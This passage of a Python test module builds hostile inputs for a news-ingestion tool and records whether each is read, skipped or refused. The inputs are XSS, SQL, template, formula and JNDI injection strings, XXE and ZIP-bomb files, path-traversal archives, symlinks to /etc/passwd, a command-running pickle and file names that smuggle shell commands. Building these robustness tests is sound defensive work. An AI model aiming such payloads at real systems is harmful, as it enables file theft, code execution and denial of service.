"""Hostile topics, one table: each by its name, what it is made of, and what must come of it.

Beside each lies one good article, which must always be read. `python tests/hostile.py [NAME…]`
makes each a megabyte large, takes it through every step in a process of its own, and prints each
step's seconds, its megabytes and what came of it.
"""

from __future__ import annotations

import base64
import gzip
import io
import itertools
import json
import os
import sqlite3
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path

TALKS = "Japan held talks with the Taliban in Tokyo on Tuesday, the Foreign Ministry said."
AID = "Officials said that aid for Afghanistan would go on, and Motegi called it a success."
GOOD = f"Japan and Taliban discuss aid\n\n{TALKS} {AID}\n\n{AID} {TALKS}\n"
READ, SKIPPED, REFUSED = "read", "skipped", "refused"
NEVER = "/tmp/pressbrief-was-here"  # what code in an article would make
Files = dict[str, str | bytes]


@dataclass(frozen=True)
class Case:
    """A hostile topic: `made` of a size in bytes gives its files, or lays them into a folder."""

    name: str
    made: Callable[..., Files | None]
    outcome: str  # read, skipped or refused, or how what is said of it begins
    whole: bool = False  # it goes through mentions, stance and timeline in the tests too
    lays: bool = False  # made of a folder: links, pipes, names


def lay(case: Case, folder: Path, size: int) -> None:
    """Makes a case's topic in a folder: the good article, and the hostile files."""
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    files = case.made(folder) if case.lays else case.made(size)
    for name, data in (files or {}).items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)


def said(text: str) -> Callable[[int], Files]:
    """An article that says a text in its headline and body, and an export that has it as names."""
    body = f"{text} in Tokyo\n\n{TALKS} {text} {AID}\n\n“{text},” Motegi said. {TALKS}\n"
    row = {"title": text, "author": f"Lee {text}", "publisher": text, "url": text, "text": body}
    return lambda size: {"a.txt": body, "b.jsonl": json.dumps(row)}


def shape(unit: str) -> Callable[[int], Files]:
    """An article with one piece of text over and over."""
    return lambda size: {"a.txt": f"{GOOD}\n{unit * (size // len(unit.encode()))}\n\n{TALKS}"}


def varied(size: int) -> Files:
    """An article as long as a book, in which no sentence stands twice: each is read."""
    said = "Japan’s envoy {} told the Taliban on {} May that plan {} for Kabul was a mistake. "
    return {"a.txt": f"{GOOD}\n{''.join(said.format(n, n % 31, n) for n in range(size // 80))}"}


# What an article may say, whatever it is meant to be somewhere.
TEXTS = {
    "a script element": "<script>alert(1)</script>",
    "an image with a handler": '"><img src=x onerror=alert(2)>',
    "an SVG with a handler": "<svg onload=alert(3)>",
    "a javascript: link": "<a href='javascript:alert(4)'>here</a>",
    "an iframe of a local file": "<iframe src='file:///etc/passwd'></iframe>",
    "a style from outside": "<style>@import url(http://192.0.2.1/x.css)</style>",
    "a meta refresh": '<meta http-equiv="refresh" content="0;url=http://192.0.2.1">',
    "the end of a style and a comment": "]]></style></title><!-- --> &amp; &#x3c;",
    "a Markdown image": "![i](http://192.0.2.1/x.png) [l](javascript:alert(5))",
    "a Markdown fence and heading": "```\n# Findings\n```\n---\n| a | b |",
    "Typst code": '#panic("x") #set page(width: 1pt) $x^2$ *b* _i_ `c` @ref <label> // c',
    "a Typst file and package": '#read("/etc/passwd") #import "@preview/x:0.1.0": *',
    "LaTeX": r"\input{/etc/passwd} $\frac{1}{2}$ \write18{id} \end{document}",
    "Jinja": "{{ 7 * 7 }} {% include '/etc/passwd' %} {# c #}",
    "papermill's braces": "{topic} {0} {{as_of}} {x!r:>{y}}",
    "printf's signs": "%s %n %d %(name)s $HOME ${HOME} `id`",
    "a spreadsheet's formula": "=cmd|' /C calc'!A0",
    "a formula after a sign": '+HYPERLINK("http://192.0.2.1","x")',
    "a formula after a tab": "\t@SUM(1+1)*cmd|'/C calc'!A0",
    "a notebook's magics": f"%run /etc/passwd\n!touch {NEVER}\n%%bash\nid",
    "Python": f"__import__('os').system('touch {NEVER}')",
    "SQL": "'; DROP TABLE articles; --",
    "a JNDI address": "${jndi:ldap://192.0.2.1/a}",
    "ANSI escapes": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;http://192.0.2.1\x1b\\x",
    "bidirectional marks": "abc \u202etxt.exe\u202c \u2066x\u2069 \u200f",
    "characters that are none": "\ufffe \uffff \ue000 \ufeff \u0085 \u2028",
    "a letter under a thousand marks": "a" + "\u0301" * 1000,
    "a family of emoji": "👩‍👩‍👧‍👦 🏴‍☠️ 😀" * 20,
    "other scripts": "中文新闻 العربية עברית ไทย 日本語",
    "letters that look like others": "J\u0430p\u0430n and the \u03a4\u0430lib\u0430n",
    "one word without end": "w" * 10_000,
    "an address without end": "https://example.org/" + "a-very-long-path/" * 600,
    "markers of the tables": "a; b; c, unknown, nan, None, NULL, N/A, inf, -0",
    "the marks of a doctest": ">>> import os\n... os.remove('x')",
    "a diff and a merge": "<<<<<<< HEAD\n=======\n>>>>>>> x",
    "the year nought and others": "On 0 May 0000, 31 February 2025, 99999-99-99 and 5 May 99999",
    "every kind of day at once": "from Monday 32 June -5 BC until 24:61 on 13/13/13, in year 0,",
}

# What takes long where work grows by the square of a text, a line, a paragraph or a sentence.
SHAPES = {
    "one paragraph": f"{TALKS} {AID} ",
    "one sentence of names": "Anna Berg, Kofi Mensah, Li Na, ",
    "one sentence of days": "5 May 2024, on Tuesday last week, ",
    "one sentence of reports": "Japan said that ",
    "one sentence of sources": "according to Japan, ",
    "one sentence of relatives": "who said he said ",
    "one sentence of ands": "Japan and China and ",
    "one sentence of ofs": "the minister of Japan of ",
    "one sentence of numbers": "at least 1,234 people killed, ",
    "dated sentences": "On 5 May 2024 Japan attacked Kabul. ",
    "short sentences": "He left. ",
    "one letter": "a",
    "digits": "1",
    "spaces": " ",
    "tabs": "x\t",
    "line ends": "\n",
    "short lines": "x\n\n",
    "straight quotes": '"',
    "opened quotes": "“Aid ",
    "opened straight quotes": '"Aid ',
    "apostrophes": "'aid ",
    "turned quotes": "»Aid ",
    "quotations": "“We will,” he said. ",
    "brackets": "(",
    "dashes": "- ",
    "full stops": "a. ",
    "initials": "A.",
    "at signs": "@",
    "addresses": "a@b.",
    "links": "https://www.example.org/a ",
    "a list in its line": "1. Talks in Tokyo 2. Aid ",
    "a transcript": "Q: Will Japan go?\n\nMotegi: We will.\n\n",
    "hashes": "# ",
    "mojibake": "â€œTokyoâ€ ",
    "credits": "Reporting by A; editing by B; writing by C; ",
    "a copyright": "© (c) 2025 - ",
}


def zip_of(files: dict[str, bytes | str]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return target.getvalue()


def overlapping(size: int) -> Files:
    """One member, and a directory that names it once for each hundred bytes."""
    data = zip_of({"a.txt": b"a" * (1 << 20)})
    start, close = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    entry, end = data[start:close], bytearray(data[close:])
    count = min(size // 100, 60_000)
    end[8:10] = end[10:12] = count.to_bytes(2, "little")
    end[12:16] = (len(entry) * count).to_bytes(4, "little")
    return {"a.zip": data[:start] + entry * count + bytes(end)}


def small_bombs(size: int) -> Files:
    return {"a.zip": zip_of({f"{n}": b"0" * 999_999 for n in range(300)})}


def many_names(size: int) -> Files:
    return {"a.zip": zip_of({f"{n}\n\u202e.txt": "" for n in range(1000)})}


def nested_zip(size: int) -> Files:
    data = zip_of({"a.txt": TALKS})
    for _ in range(20):
        data = zip_of({"a.zip": data})
    return {"a.zip": data}


def nested_gzip(size: int) -> Files:
    data = TALKS.encode()
    for _ in range(20):
        data = gzip.compress(data)
    return {"a.gz": data}


def outward_zip(size: int) -> Files:
    return {"a.zip": zip_of({"../../out.txt": AID, "/etc/x.txt": AID, "C:\\x.txt": AID})}


def tar_of_links(size: int) -> Files:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as archive:
        for name, kind in (
            ("b.txt", tarfile.SYMTYPE),
            ("c.txt", tarfile.LNKTYPE),
            ("d.txt", tarfile.CHRTYPE),
            ("e.txt", tarfile.FIFOTYPE),
            ("../f.txt", tarfile.REGTYPE),
        ):
            member = tarfile.TarInfo(name)
            member.type, member.linkname = kind, "/etc/passwd"
            archive.addfile(member)
    return {"a.tar": target.getvalue()}


def packed_tar(size: int) -> Files:
    return {"a.tar.gz": gzip.compress(tar_of_links(size)["a.tar"])}


def large_tar(size: int) -> Files:
    member = tarfile.TarInfo("a.txt")
    member.size = 1 << 40
    return {"a.tar": member.tobuf() + b"a" * 600}


def pdf(extra: bytes, stream: bytes = b"", filters: bytes = b"") -> bytes:
    """A PDF of one page: more in its catalogue, its content stream, and how that is packed."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R" + extra + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R"
        b"/Resources<</Font<</F 5 0 R>>>>>>endobj\n"
        b"5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\n"
        b"4 0 obj<</Length " + str(len(stream)).encode() + filters + b">>stream\n"
        b"" + stream + b"\nendstream endobj\ntrailer<</Root 1 0 R/Size 6>>\nstartxref\n0\n%%EOF"
    )


SHOWN = b"BT /F 9 Tf 9 TL " + f"({TALKS}) Tj T* ({AID}) Tj T* ".encode() * 5 + b"ET"
SCRIPT = b"/OpenAction<</S/JavaScript/JS(app.launchURL('http://192.0.2.1'))>>"
LAUNCH = b"/OpenAction<</S/Launch/F(/bin/sh)>>"


def pdf_bomb(size: int) -> Files:
    return {"a.pdf": pdf(b"", zlib.compress(b"0 0 m " * (size * 20)), b"/Filter/FlateDecode")}


def pdf_circle(size: int) -> Files:
    return {"a.pdf": pdf(b"", SHOWN).replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")}


def word(body: str, more: dict[str, str] | None = None, doctype: str = "") -> Files:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    document = f'<w:document xmlns:w="{space}"><w:body>{body}</w:body></w:document>'
    xml = f'<?xml version="1.0"?>{doctype}{document}'
    return {"a.docx": zip_of({"word/document.xml": xml, **(more or {})})}


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
BOMB = f'<!DOCTYPE d [<!ENTITY l0 "lol">{LAUGHS}]>'
OUTSIDE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
DISTANT = '<!DOCTYPE d SYSTEM "http://192.0.2.1/x.dtd">'
MACROS = {
    "word/vbaProject.bin": "x",
    "word/_rels/document.xml.rels": '<a Target="http://192.0.2.1"/>',
}


def feed(text: str, doctype: str = "") -> Files:
    item = f"<item><title>x</title><description>{text}</description></item>"
    return {"a.rss": f"<?xml version='1.0'?>{doctype}<rss><channel>{item}</channel></rss>"}


def page(inside: str, size: int = 0, unit: str = "x", head: str = "") -> Files:
    """A page with its article, and a unit over and over before it."""
    many = unit * (size // len(unit))
    text = f"<article><h1>Aid</h1><p>{TALKS} {AID}</p><p>{AID} {TALKS} {AID}</p></article>"
    return {"a.html": f"<!doctype html><html><head>{head}</head><body>{many}{inside}{text}</body>"}


DATA = '<script type="application/ld+json">%s</script>'
LIES = (
    f'<meta name=author content="{"a and " * 9999}"><title>{"a | " * 9999}</title>'
    '<base href="file:///"><meta property="og:url" content="file:///etc/passwd">'
    '<meta property="article:published_time" content="99999-99-99T99:99:99Z">'
)
FROM_OUTSIDE = (
    "<img src='file:///etc/passwd'><object data='http://192.0.2.1'></object><embed src=x>"
)
RTF = (
    r"{\rtf1 {\field{\*\fldinst INCLUDETEXT \"/etc/passwd\"}{\fldrslt x}}"
    r"{\object\objupdate{\*\objdata 0105}}\u-10179? " + f"{TALKS} {AID}" + "}"
)


def behind_comments(size: int) -> Files:
    return {"a.html": "<!-- a -->" * (size // 10) + page("")["a.html"]}


def attributes(size: int) -> Files:
    return page(f"<p {' '.join(f'a{n}=1' for n in range(size // 8))}>")


def mail_of_parts(size: int) -> Files:
    part = 'Content-Type: multipart/mixed; boundary="b"\n\n--b\n'
    return {"a.eml": f"From: a@example.org\nMessage-ID: 1\nDate: 1\n{part * 5000}"}


def mail_of_names(size: int) -> Files:
    message = EmailMessage()
    message["From"], message["Subject"], message["Message-ID"] = "a@example.org", "Aid", "<1>"
    message.set_content(f"{TALKS} {AID}")
    name = "../../../etc/cron.d/x.txt"
    message.add_attachment(AID.encode(), "text", "plain", filename=name)
    return {"a.eml": message.as_bytes()}


def mail_of_fields(size: int) -> Files:
    fields = f"From: {'<' * size}\nSubject: {'=?utf-8?q?a?= ' * (size // 14)}\nDate: 1\n"
    return {"a.eml": f"Message-ID: 1\nMIME-Version: 1.0\n{fields}\n{TALKS} {AID}"}


def half_a_subject(size: int) -> Files:
    head = b"From: a@b.c\nDate: 1\nMessage-ID: 1\nSubject: A \xff\xed\xa0\xbd\n\n"
    return {"a.eml": head + f"{TALKS} {AID}".encode()}


def records(*rows: str) -> Callable[[int], Files]:
    """JSON Lines of these records, in which %s is a text, and of a good one."""
    good = json.dumps({"title": "Aid", "text": f"{TALKS} {AID}"})
    lines = [row.replace("%s", TALKS) for row in rows]
    return lambda size: {"a.jsonl": "\n".join([*lines, good])}


def deep(opens: str, closes: str) -> Callable[[int], Files]:
    return lambda size: {"a.json": opens * (size // len(opens)) + closes * (size // len(opens))}


def fixed(name: str, data: str | bytes) -> Callable[[int], Files]:
    return lambda size: {name: data}


SHEET = "<worksheet><sheetData><row>{}</row></sheetData></worksheet>"
BOOK = """<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>"""
RELATED = """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="r1" Target="worksheets/sheet1.xml" Type="http://schemas.openxmlformats.org/\
officeDocument/2006/relationships/worksheet"/></Relationships>"""


def sheet(cells: str) -> Files:
    """A spreadsheet of one sheet with these cells."""
    members = {"xl/workbook.xml": BOOK, "xl/_rels/workbook.xml.rels": RELATED}
    return {"a.xlsx": zip_of({**members, "xl/worksheets/sheet1.xml": SHEET.format(cells)})}


def wide_sheet(size: int) -> Files:
    """Two cells as far from each other as a sheet has them: 17 thousand million between."""
    cell = '<c r="{}" t="inlineStr"><is><t>text</t></is></c>'
    return sheet(cell.format("A1") + cell.format("XFD1048576"))


def open_document(body: str, doctype: str = "") -> Files:
    spaces = " ".join(f'xmlns:{n}="urn:oasis:names:tc:opendocument:xmlns:{n}:1.0"'
                      for n in ("office", "text", "table"))  # fmt: skip
    content = f"<office:document-content {spaces}><office:body>{body}</office:body>"
    return {"a.odt": zip_of({"content.xml": f"{doctype}{content}</office:document-content>"})}


def repeated_cells(size: int) -> Files:
    cell = '<table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p>'
    row = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-cell>'
    table = f"<table:table>{f'{row}</table:table-row>' * 99}</table:table>"
    return open_document(f"<office:spreadsheet>{table}</office:spreadsheet>")


def book(package: str, *names: str) -> Files:
    container = (
        '<container><rootfiles><rootfile full-path="../../etc/passwd"/></rootfiles></container>'
    )
    pages = {name: page(GOOD)["a.html"] for name in names}
    held = {"META-INF/container.xml": container, "c.opf": package, **pages}
    return {"a.epub": zip_of(held)}


def database(*statements: str) -> Files:
    with sqlite3.connect(":memory:") as one:
        for statement in statements:
            one.execute(statement)
        one.commit()
        return {"a.db": one.serialize()}


ENDLESS = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x AS text FROM n"
LISTED = "<plist><dict><key>WebMainResource</key>"
DAYS = ("NaN", '"NaN"', "-1", "1e400", '"0000-00-00"', '"99999-12-31"', '"-9999999999"', "[[1]]")
ODD_DAYS = (f'{{"title":"Aid {n}","date":{day},"text":"%s"}}' for n, day in enumerate(DAYS))
LISTS = '{"title":[1,{"a":2}],"author":{"name":{"name":3}},"text":["a",null,7,"%s"]}'
DEEP_ROW = f'{{"title":"A","authors":{"[" * 900}{"]" * 900},"text":"%s"}}'
FORMULAS = f"title,text,author\n=1+1,\"=cmd|' /C calc'!A0 {TALKS} {AID}\",@x\n"
PICKLE = "gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAh0b3VjaCAvdJSFlFKULg=="
NOTEBOOK = json.dumps({"cells": [{"cell_type": "code", "source": ["!id"]}]})
UTF7 = "<html><meta charset=utf-7><body><p>+ADw-script+AD4-alert(1)</p>" + page("")["a.html"]
THREE = GOOD.encode() + "é ".encode("latin-1") * 9 + GOOD.encode()


def modules(size: int) -> Files:
    """Files of the names that Python looks for."""
    code = f"open('{NEVER}', 'w')  # {TALKS}"
    return {f"{name}.py": f"{code} {name}" for name in ("json", "sitecustomize", "conftest")}


# Each form of file, turned against its reader.
FILES: tuple[tuple[str, Callable[[int], Files], str], ...] = (
    ("a ZIP bomb", lambda size: {"a.zip": zip_of({"a": b"0" * (size * 50)})}, SKIPPED),
    ("a ZIP of small bombs", small_bombs, "skipped: its archive unpacks to too much"),
    ("a ZIP of overlapping entries", overlapping, "skipped: its files overlap, "),
    ("a ZIP in a ZIP in a ZIP", nested_zip, "skipped: an archive inside 4 others; "),
    ("a ZIP that leads out", outward_zip, "skipped: its path leads out of the archive; "),
    ("a ZIP cut off in a ZIP", fixed("a.zip", zip_of({"a.zip": b"PK\x03\x04"})), SKIPPED),
    ("a ZIP of a thousand names", many_names, SKIPPED),
    ("a gzip bomb", lambda size: {"a.gz": gzip.compress(b"0" * (size * 50))}, SKIPPED),
    ("gzip in gzip", nested_gzip, "skipped: an archive inside 4 others; "),
    ("a tar of links and devices", tar_of_links, "skipped: a link, not a file; "),
    ("a tar of a terabyte", large_tar, "skipped: too large: "),
    ("a packed tar", packed_tar, "skipped: a link, not a file; "),
    ("a 7-Zip archive", fixed("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(99)), "skipped: a 7-Zip"),
    ("a PDF with a script", fixed("a.pdf", pdf(SCRIPT, SHOWN)), READ),
    ("a PDF that starts a program", fixed("a.pdf", pdf(LAUNCH, SHOWN)), READ),
    ("a PDF that unpacks to any size", pdf_bomb, SKIPPED),
    ("a PDF whose pages are in a circle", pdf_circle, SKIPPED),
    ("a PDF of brackets", lambda size: {"a.pdf": b"%PDF-1.7\n" + b"<<" * (size // 2)}, SKIPPED),
    ("a PDF that is a ZIP too", fixed("a.pdf", pdf(b"", SHOWN) + zip_of({"a.txt": AID})), READ),
    ("a Word file of laughs", lambda size: word("<w:p>&l11;</w:p>", doctype=BOMB), SKIPPED),
    ("a Word file of another file", lambda size: word("<w:p>&x;</w:p>", doctype=OUTSIDE), SKIPPED),
    ("a Word file nested deep", lambda size: word("<w:p>" * 30_000 + "</w:p>" * 30_000), SKIPPED),
    ("a Word file with macros", lambda size: word(f"<w:p><w:t>{GOOD}</w:t></w:p>", MACROS), READ),
    ("a feed of laughs", lambda size: feed("&l11;", BOMB), "skipped: XML that defines entities"),
    ("a feed of another file", lambda size: feed("&x;", OUTSIDE), "skipped: XML that defines"),
    ("a feed with a distant grammar", lambda size: feed(TALKS, DISTANT), READ),
    ("a feed of marked text", lambda size: feed("&lt;p&gt;" * (size // 9) + TALKS), READ),
    ("a feed nested deep", lambda size: feed("<b>" * (size // 7) + "</b>" * (size // 7)), SKIPPED),
    ("a page of attributes", attributes, READ),
    ("a page of one attribute", lambda size: page(f"<p title='{'a ' * (size // 2)}'>x</p>"), READ),
    ("a page behind comments", behind_comments, READ),
    ("a text behind 32 comments", fixed("a.txt", f"{'<!-- a -->' * 32} x {TALKS} {AID}"), READ),
    ("a page of open brackets", lambda size: page("", size, "<"), READ),
    ("a page of open tags", lambda size: page("", size, "<div>"), SKIPPED),
    ("a page of links", lambda size: page("", size, "<h3><a href='/x'>Talks</a></h3>"), READ),
    ("a page of data", lambda size: page("", size, DATA % '{"@type":"Article"}'), READ),
    ("a page of deep data", lambda size: page("", head=DATA % ("[" * 5000 + "]" * 5000)), READ),
    ("a page of lies", lambda size: page("", head=LIES), READ),
    ("a page of entities", lambda size: page("", size, "&amp;lt;&#xD83D;&#0;&#x110000;"), READ),
    ("a page in UTF-7", fixed("a.html", UTF7), READ),
    ("a page in no encoding", lambda size: page("", head="<meta charset='../../x'>"), READ),
    ("a page of things from outside", lambda size: page(FROM_OUTSIDE), READ),
    ("an RTF file with fields", fixed("a.rtf", RTF), READ),
    ("an RTF file of braces", lambda size: {"a.rtf": "{\\rtf1 " + "{" * size}, SKIPPED),
    ("a mail of parts in parts", mail_of_parts, "skipped: a mail of more than"),
    ("a mail with a name that leads out", mail_of_names, READ),
    ("a mail of endless fields", mail_of_fields, READ),
    ("a mail with half a character", half_a_subject, READ),
    ("half characters in a record", records(r'{"author":"B \udc00","text":"%s \ud83d"}'), READ),
    ("half a character in a field's name", records(r'{"\ud83d":"x","text":"%s"}'), READ),
    ("zeros in a record", records(r'{"title":"A\u0000b","author":"B\u0000","text":"%s"}'), READ),
    ("records of odd days", records(*ODD_DAYS), READ),
    ("a record nested deep", records(DEEP_ROW), READ),
    ("a record of numbers and lists", records(LISTS), READ),
    ("a record of one field twice", records('{"text":"x","text":"%s"}'), READ),
    ("records that are none", records("[]", "1", '"x"', "null", "{", "}{"), READ),
    ("lists in lists", deep("[", "]"), "skipped: damaged or cut off JSON; "),
    ("objects in objects", deep('{"text":', "}"), "skipped: damaged or cut off JSON; "),
    ("a number without end", lambda size: {"a.json": '{"text": ' + "9" * size + "}"}, SKIPPED),
    ("a table of commas", lambda size: {"a.csv": "title,text\n" + "," * size}, SKIPPED),
    ("a table of columns", lambda size: {"a.csv": "text,title," * (size // 11)}, SKIPPED),
    ("a table of formulas", fixed("a.csv", FORMULAS), READ),
    ("a table that is a script", fixed("a.csv", f"#!/bin/sh\ntouch {NEVER}\n"), SKIPPED),
    ("a sheet as wide as any", wide_sheet, "skipped: a sheet that spans more than"),
    ("a sheet that is none", lambda size: sheet("<c" * (size // 2)), SKIPPED),
    ("a sheet that unpacks to any size", lambda size: sheet(" " * (size * 60)), SKIPPED),
    ("a sheet of repeated cells", repeated_cells, "skipped: a sheet of more than"),
    (
        "an old sheet cut off",
        fixed("a.xls", b"\xd0\xcf\x11\xe0" + "Workbook".encode("utf-16-le")),
        SKIPPED,
    ),
    ("an open text of laughs", lambda size: open_document("&l11;", BOMB), SKIPPED),
    (
        "an open text nested deep",
        lambda size: open_document("<text:p>" * 9000 + "</text:p>" * 9000),
        SKIPPED,
    ),
    ("an e-book that leads out", lambda size: book("<package/>", "a.xhtml"), READ),
    ("an e-book of laughs", lambda size: book(f"{BOMB}<package>&l11;</package>", "a.xhtml"), READ),
    (
        "a database of an endless view",
        lambda size: database(f"CREATE VIEW a AS {ENDLESS}"),
        SKIPPED,
    ),
    (
        "a database with a hostile name",
        lambda size: database('CREATE TABLE "a""; DROP TABLE b; --" (text, title)'),
        SKIPPED,
    ),
    ("a database cut off", lambda size: {"a.db": b"SQLite format 3\0" + bytes(size)}, SKIPPED),
    (
        "a Parquet file of zeros",
        lambda size: {"a.parquet": b"PAR1" + bytes(size) + b"PAR1"},
        SKIPPED,
    ),
    ("references of braces", lambda size: {"a.bib": "@article{a," + "{" * size}, SKIPPED),
    ("references of ats", lambda size: {"a.bib": "@article{a,}" + "@a{" * (size // 3)}, SKIPPED),
    (
        "references without an end",
        lambda size: {"a.ris": "TY  - NEWS\n" + "AB  - x\n" * (size // 8)},
        READ,
    ),
    (
        "references of lines",
        lambda size: {"a.ris": "TY  - NEWS\nAB  - x\n" + "x.\n" * (size // 3)},
        READ,
    ),
    (
        "a mailbox of borders",
        lambda size: {"a.mbox": "From a@b 1 2025\nTo: b\n\n" * (size // 23)},
        SKIPPED,
    ),
    (
        "a web archive nested deep",
        lambda size: {
            "a.webarchive": f"<?xml version='1.0'?><!DOCTYPE plist>{LISTED}"
            + "<array>" * (size // 7)
        },
        SKIPPED,
    ),
    (
        "a database's ends",
        lambda size: {"a.txt": "Length: 1\nEnd of Document\n" * (size // 26)},
        SKIPPED,
    ),
    (
        "a database's numbers",
        lambda size: {"a.txt": "1 of 9 DOCUMENTS\nBYLINE: x\n" * (size // 27)},
        SKIPPED,
    ),
    (
        "a database's codes",
        lambda size: {
            "a.txt": f"HD  A\nLP  {TALKS}\nAN  Document ABCD00000000000000\n" * (size // 150)
        },
        READ,
    ),
    (
        "subtitles of arrows",
        lambda size: {"a.srt": "00:00:01,000 --> 00:00:02,000\n" * (size // 30)},
        SKIPPED,
    ),
    (
        "front matter without an end",
        lambda size: {"a.md": "---\n" + "title: a\n" * (size // 9)},
        READ,
    ),
    (
        "wrappers in wrappers",
        lambda size: {"a.json": '{"data":' * 500 + '{"text":"x"}' + "}" * 500},
        SKIPPED,
    ),
    (
        "runs in runs",
        lambda size: {"a.json": '[{"text":' + '[{"text":' * 200 + '"x"' + "}]" * 201},
        SKIPPED,
    ),
    ("zeros", lambda size: {"a.txt": bytes(size)}, SKIPPED),
    ("noise", lambda size: {"a.txt": bytes(n * n * 31 % 251 for n in range(size))}, SKIPPED),
    ("broken UTF-8", fixed("a.txt", b"\xfd\xfe\xff\x80" * 999 + GOOD.encode()), SKIPPED),
    ("UTF-16 without a mark", fixed("a.txt", GOOD.encode("utf-16-le")), READ),
    ("half of UTF-16", fixed("a.txt", b"\xff\xfe" + GOOD.encode("utf-16-le")[:-1]), SKIPPED),
    ("two encodings in one", fixed("a.txt", THREE), SKIPPED),
    ("control characters", fixed("a.txt", f"{GOOD}\x01\x02\x7f{GOOD * 9}"), READ),
    ("a picture of that name", fixed("a.txt", b"\x89PNG\r\n\x1a\n" + bytes(99)), SKIPPED),
    ("a program", fixed("a.txt", b"\x7fELF" + bytes(range(256)) * 9), SKIPPED),
    ("a pickle", fixed("a.parquet", base64.b64decode(PICKLE)), SKIPPED),
    ("a notebook", fixed("a.ipynb", NOTEBOOK), SKIPPED),
    ("modules named as Python's", modules, READ),
)


def links(folder: Path) -> None:
    (folder / "a.txt").symlink_to("/etc/passwd")
    (folder / "b").symlink_to("/etc")


def devices(folder: Path) -> None:
    for name, to in (("a.txt", "/dev/zero"), ("b.txt", "/dev/stdin"), ("c.txt", "/proc/self/mem")):
        (folder / name).symlink_to(to)


def pipe(folder: Path) -> None:
    os.mkfifo(folder / "a.txt")


def circle(folder: Path) -> None:
    (folder / "a").symlink_to(folder)
    (folder / "b.txt").symlink_to("b.txt")


ODD_NAMES = (
    *("a\nb.txt", "a\x1b[2J.txt", "a\u202etxt.exe", "-rf.txt", "a\\b.txt", '"; id #.txt'),
    *("x" * 250 + ".txt", "{{7*7}}.txt", "#[x].txt", "=1+1.txt", "<img src=x>.txt", "$(id).txt"),
)


def odd_names(folder: Path) -> Files:
    return {name: f"{TALKS} {at}" for at, name in enumerate(ODD_NAMES)}


def alike(folder: Path) -> Files:
    return {"\u00e9.txt": f"{TALKS} 1", "e\u0301.txt": f"{TALKS} 2", "\u00c9.txt": f"{TALKS} 3"}


def name_without_text(folder: Path) -> None:
    Path(os.fsdecode(os.fsencode(folder) + b"/a\xff\xfe.txt")).write_text(TALKS)


def sidecar(name: str, text: str) -> Callable[[Path], Files]:
    return lambda folder: {name: text}


PATTERNS = (
    'title = "(a+)+$"\n[[actor]]\nname = "(a+)+$"\ntype = "state"\n'
    'aliases = ["[", "Japan\\\\", "((((((", "{{x}}"]\n'
)
ELSEWHERE = '[[article]]\nfile = "../../../etc/passwd"\npublisher = "x"\n'
NO_DAY = '[[article]]\nfile = "good.txt"\npublished = "9999-99-99"\n'
# What lies in the folder, and how it is called.
PLACES: tuple[tuple[str, Callable[[Path], Files | None], str], ...] = (
    ("links to other files", links, "skipped: a link that leads out of the topic; "),
    ("links to devices", devices, "skipped: a link that leads out of the topic; "),
    ("a pipe", pipe, "skipped: no file but a device"),
    ("links in a circle", circle, SKIPPED),
    ("odd names", odd_names, READ),
    ("names that look alike", alike, READ),
    ("a name that is no text", name_without_text, READ),
    ("folders in folders", lambda folder: {"/".join(["a"] * 400) + "/a.txt": TALKS}, READ),
    ("a topic.toml nested deep", sidecar("topic.toml", f"title = {'[' * 9999}"), REFUSED),
    ("a topic.toml that is a pipe", lambda folder: os.mkfifo(folder / "topic.toml"), REFUSED),
    ("a topic.toml of patterns", sidecar("topic.toml", PATTERNS), "read alone"),
    ("an origin.toml that leads out", sidecar("origin.toml", ELSEWHERE), "read alone"),
    ("an origin.toml of no day", sidecar("origin.toml", NO_DAY), REFUSED),
)


def cases() -> Iterator[Case]:
    """The table."""
    for name, text in TEXTS.items():
        yield Case(f"text: {name}", said(text), READ, whole=True)
    for name, unit in SHAPES.items():
        yield Case(f"shape: {name}", shape(unit), READ, whole=True)
    yield Case("shape: no sentence twice", varied, READ)  # the reader's own pace: minutes
    for name, made, outcome in FILES:
        yield Case(f"file: {name}", made, outcome)
    for name, made, outcome in PLACES:
        yield Case(f"place: {name}", made, outcome, lays=True)


def taken(
    folder: Path, whole: bool, done: Callable[[str], object] = lambda step: None
) -> dict[str, str]:
    """Through the corpus step, and the others: each file and item with "read" or its reason.

    What refuses the topic stands under "", after "refused: ". `done` is told of each step's end.
    """
    from dataclasses import replace
    from datetime import date

    from pressbrief import corpus, mentions, topic
    from pressbrief.tables.select import naming

    try:
        subject = topic.load(folder)
        made = corpus.build(subject, date(2026, 11, 30))
    except topic.TopicError as error:
        return {"": f"refused: {error}"}
    done("corpus")
    if whole:
        from pressbrief import stance

        articles, sentences = made["articles"].assign(language="en"), made["sentences"]
        actors, found = mentions.build(subject, articles, sentences)
